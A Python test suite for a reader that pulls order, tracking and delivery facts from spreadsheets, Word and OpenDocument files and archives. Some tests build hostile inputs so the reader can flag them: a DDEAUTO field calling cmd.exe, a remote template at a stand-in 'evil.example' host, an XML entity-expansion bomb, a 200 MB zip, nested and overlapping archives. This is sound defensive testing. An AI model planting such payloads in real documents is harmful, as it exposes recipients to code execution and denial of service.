"""Office files: what they say, and where; what they carry and refer to, named and left alone."""

from __future__ import annotations

from datetime import datetime

import pytest

from evidence.facts import Fact
from evidence.times import Instant, LocalTime
from tests.verifiers.documents import pdf, received
from tests.verifiers.evidence_of import NUMBER, ORDER
from tests.verifiers.readers.office_files import (
    docx,
    opendocument,
    paragraph,
    relationships,
    table,
    xls,
    xlsx,
    zipped,
)
from tests.verifiers.readers.test_mail import named
from verifiers.readers import sheets
from verifiers.readers.registry import read, reader_of

DELIVERED = datetime(2026, 11, 5, 14, 32, 10)
ROWS = [
    ["Order ID", "Tracking Number", "Delivered At", "Weight"],
    [ORDER.id, NUMBER, DELIVERED, 1.5],
    ["112-1111111-1111111", None, datetime(2026, 11, 6, 9, 0, 0), 2],
]


def facts_of(data: bytes) -> list[Fact]:
    facts = read(received(data))
    assert facts is not None
    return facts


def unread(facts: list[Fact]) -> list[str]:
    return [fact.text for fact in named(facts, "reading.failed")]


@pytest.mark.parametrize("write", [xlsx, xls], ids=["xlsx", "xls"])
def test_a_workbooks_cells_have_their_row_and_heading(write: object) -> None:
    assert callable(write)
    facts = facts_of(write({"Orders": ROWS, "More": [["Order number", "112-2222222-2222222"]]}))
    assert not unread(facts)
    (number,) = named(facts, "shipment.tracking_number")
    assert (number.text, str(number.locator)) == (NUMBER, "cell:2/Tracking Number")
    first, second = named(facts, "delivery.at")
    assert isinstance(first.value, LocalTime) and first.value.wall == DELIVERED
    assert (first.group, second.group) == ("row/2", "row/3")
    other = next(fact for fact in facts if fact.text == "112-2222222-2222222")
    assert str(other.locator) == "cell:More!1/B"


def test_a_number_that_excel_rounded_is_nobodys() -> None:
    facts = facts_of(xlsx({"A": [["Order ID", "Note"], [1.1223344556677889e18, "x1"]]}))
    assert not named(facts, "order.id") and not named(facts, "order.alias")
    assert any("1.122334E+18" in fact.text for fact in facts)


def test_an_opendocument_sheet_is_read_with_its_repeated_cells() -> None:
    def cell(text: str, more: str = "") -> str:
        return f"<table:table-cell {more}><text:p>{text}</text:p></table:table-cell>"

    empty = "<table:table-cell table:number-columns-repeated='16000'/>"
    rows = [
        cell("Order ID") + cell("Tracking Number") + cell("Delivered At") + empty,
        cell(ORDER.id) + cell(NUMBER) + cell("5 Nov", "office:date-value='2026-11-05T14:32:10'"),
    ]
    body = "".join(f"<table:table-row>{row}</table:table-row>" for row in rows)
    facts = facts_of(
        opendocument("spreadsheet", f"<table:table table:name='A'>{body}</table:table>")
    )
    (number,) = named(facts, "shipment.tracking_number")
    assert str(number.locator) == "cell:2/Tracking Number"
    (delivered,) = named(facts, "delivery.at")
    assert isinstance(delivered.value, LocalTime) and delivered.value.wall == DELIVERED


def test_a_letters_paragraphs_and_tables_are_read_and_deleted_words_are_not() -> None:
    gone = "<w:p><w:del><w:r><w:delText>Order 112-9999999-9999999</w:delText></w:r></w:del></w:p>"
    body = paragraph("Proof of delivery") + gone + table(
        ["Tracking number", NUMBER], ["Delivered on", "2026-11-05 14:32"]
    ) + paragraph(f"Order {ORDER.id}")  # fmt: skip
    facts = facts_of(docx(body))
    (order,) = named(facts, "order.id")
    assert (order.text, str(order.locator)) == (ORDER.id, "line:2")
    (number,) = named(facts, "shipment.tracking_number")
    assert (number.text, str(number.locator)) == (NUMBER, "cell:table 1!1/B")
    assert len(named(facts, "delivery.at")) == 1


def test_an_opendocument_letter_is_read() -> None:
    body = f"<text:p>Order <text:span>{ORDER.id}</text:span></text:p><text:p>Delivered</text:p>"
    facts = facts_of(opendocument("text", body))
    assert [str(fact.locator) for fact in named(facts, "order.id")] == ["line:1"]


def test_macros_commands_and_links_are_named() -> None:
    field = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
    facts = facts_of(
        docx(
            paragraph("x") + field,
            {
                "word/vbaProject.bin": b"\0",
                "word/_rels/document.xml.rels": relationships(
                    attachedTemplate="http://evil.example/t.dotm"
                ),
            },
        )
    )
    programs = [fact.text for fact in named(facts, "file.program")]
    assert any("vbaProject.bin" in said for said in programs)
    assert any("DDEAUTO" in said for said in programs)
    (outside,) = named(facts, "file.outside")
    assert outside.text == "attachedTemplate: http://evil.example/t.dotm"


def test_what_a_file_states_of_itself_is_told() -> None:
    core = (
        "<cp:coreProperties xmlns:cp='c' xmlns:dcterms='d' xmlns:dc='e'>"
        "<dc:creator>Ann</dc:creator>"
        "<dcterms:created>2026-11-05T10:00:00Z</dcterms:created></cp:coreProperties>"
    )
    facts = facts_of(docx(paragraph("x"), {"docProps/core.xml": core}))
    (made,) = named(facts, "document.created.at")
    assert isinstance(made.value, Instant) and made.value.at.hour == 10
    assert [fact.text for fact in named(facts, "document.property")] == ["creator: Ann"]


def test_an_archives_members_are_read_as_files_inside_it() -> None:
    inner = zipped({"deep/note.txt": f"Order {ORDER.id}"})
    facts = facts_of(zipped({"a.bin": inner, "pod": pdf((f"Tracking Number: {NUMBER}",))}))
    assert [str(fact.locator) for fact in named(facts, "order.id")] == [
        "attached:1/attached:1/line:1"
    ]
    (number,) = named(facts, "shipment.tracking_number")
    assert str(number.locator).startswith("attached:2/page:1/box:")


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LAUGHS = "<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]><l>&b;</l>"


def _quine(depth: int) -> bytes:
    data = zipped({"leaf.txt": "x"})
    for _ in range(depth):
        data = zipped({"again.zip": data})
    return data


def _overlapping() -> bytes:
    """Two members whose directory entries point at one place."""
    data = bytearray(zipped({"a": b"0" * 5_000, "b": b"1" * 5_000}))
    first = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", first + 4)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


HOSTILE = {
    "an empty letter": (docx(""), "no text"),
    "entities": (zipped({"[Content_Types].xml": "", "word/document.xml": LAUGHS}), "document type"),
    "entities in a sheet": (
        zipped({"[Content_Types].xml": "", "xl/workbook.xml": LAUGHS}),
        "document type",
    ),
    "entities in an ODS": (
        opendocument("spreadsheet", "", {"content.xml": LAUGHS}),
        "document type",
    ),
    "elements in elements": (docx("<w:p>" * 5_000), "nested too deeply"),
    "200 MB of nothing": (zipped({"a": bytes(200_000_000)}), "too large"),
    "members over each other": (_overlapping(), "over each other"),
    "an archive in an archive, ten deep": (_quine(10), "files deep"),
    "3,000 members": (zipped({str(n): b"" for n in range(3_000)}), "too large"),
    "an empty archive": (zipped({}), "nothing in it"),
    "half an archive": (zipped({"a": "x"})[:40], "damaged or cut off"),
    "a binary workbook": (zipped({"[Content_Types].xml": "", "xl/workbook.bin": b""}), "xlsb"),
    "an old letter": (OLE + "WordDocument".encode("utf-16-le"), "Word"),
    "an old workbook cut off": (xls({"A": [["x"]]})[:3_000], "nothing known"),
    "an old workbook with other bytes": (OLE + xls({"A": [["x"]]})[9:], "cannot be read"),
}  # fmt: skip


@pytest.mark.parametrize(("data", "sentence"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_file_costs_a_sentence_that_says_what_it_is(data: bytes, sentence: str) -> None:
    assert any(sentence in why for why in unread(facts_of(data)))
    reader = reader_of(received(data))
    assert reader is not None and isinstance(reader.text_of(received(data)), str)


def test_without_the_extra_an_old_workbook_is_said_to_be_unread(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(sheets, "xls_available", lambda: False)
    assert unread(facts_of(xls({"A": [["x"]]}))) == [sheets.NEEDS_XLS]


def test_a_workbook_of_too_many_cells_is_said_to_be_too_large(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(sheets, "MAX_CELLS", 50)
    for data in (xlsx({"A": [["x"] * 10] * 6}), xls({"A": [["x"] * 10] * 6})):
        (why,) = unread(facts_of(data))
        assert "in cells" in why and "50" in why
